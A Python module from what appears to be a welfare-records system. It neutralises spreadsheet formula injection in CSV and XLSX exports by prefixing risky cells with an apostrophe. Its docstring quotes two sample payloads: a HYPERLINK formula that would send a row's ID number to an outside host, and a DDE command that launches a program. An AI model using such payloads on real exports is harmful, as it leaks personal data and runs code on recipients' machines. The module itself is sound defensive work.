"""Text that a spreadsheet would run as a formula, made inert (CSV / formula injection).

Excel, WPS and LibreOffice read a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula, and a leading tab
or carriage return is dropped before they look. A household's address or a caseworker's note such as
``=HYPERLINK("http://example.com/?"&C2,"详情")`` would then send the row's ID number elsewhere when a county
clerk opens the file, or ``=cmd|' /C calc'!A0`` start a program on an old Excel. Every text cell of a CSV export
(``dibao/serve/export.py``) and of the XLSX work lists (``dibao/publish/worklists.py``) goes through
``neutralise``: such a value gets a leading apostrophe, the spreadsheets' own way of saying "this is text". The
apostrophe stays visible in the cell, so nobody mistakes the value for one that was typed in as a formula.

This is the one implementation; both writers import it (``neutralise`` for one value, ``neutralised`` for a
column of them).
"""

from __future__ import annotations

import re

import polars as pl

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"
FORMULA_START = "^[" + re.escape("".join(FORMULA_STARTS)) + "]"  # the same starts, as a regular expression


def neutralise(text: str) -> str:
    """``text`` with an apostrophe in front when a spreadsheet would read it as a formula, else unchanged."""
    return TEXT_MARK + text if text.startswith(FORMULA_STARTS) else text


def neutralised(column: pl.Expr) -> pl.Expr:
    """``neutralise`` over a text column."""
    return pl.when(column.str.contains(FORMULA_START)).then(pl.lit(TEXT_MARK) + column).otherwise(column)
